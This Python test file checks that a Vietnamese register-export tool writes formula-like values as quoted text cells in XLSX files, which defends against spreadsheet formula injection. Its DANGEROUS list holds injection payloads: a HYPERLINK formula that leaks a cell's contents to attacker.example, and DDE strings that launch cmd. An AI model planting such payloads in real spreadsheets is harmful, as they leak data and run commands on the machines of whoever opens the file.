"""A value that begins like a formula is written as text in the XLSX registers, never as a live formula."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from bmnn.documents.registers import Column, Cover, RegisterBook, render_register_xlsx

DANGEROUS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def workbook(rows, agency="Sở GDĐT"):
    book = RegisterBook(
        cover=Cover(agency=agency, title="Sổ đăng ký BMNN đi", year=2026),
        columns=[Column("Số"), Column("Nơi nhận"), Column("Nơi gửi")],
        rows=rows,
    )
    return load_workbook(io.BytesIO(render_register_xlsx(book)))


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_formula_like_value_is_a_text_cell_with_its_value_intact(value):
    sheet = workbook([["1", value, value]])["Sổ"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == value]
    assert len(cells) == 2
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.quotePrefix is True


def test_ordinary_values_are_unchanged_text():
    sheet = workbook([["1", "Phòng Khảo thí; Lưu: VT", "Bộ GDĐT"]])["Sổ"]
    values = {c.value: c for row in sheet.iter_rows() for c in row}
    assert values["Phòng Khảo thí; Lưu: VT"].data_type == "s"
    assert values["Phòng Khảo thí; Lưu: VT"].quotePrefix is False


def test_the_cover_sheet_is_protected_too():
    cover = workbook([["1", "a", "b"]], agency='=HYPERLINK("http://x")')["Bìa sổ"]
    cells = [c for row in cover.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)
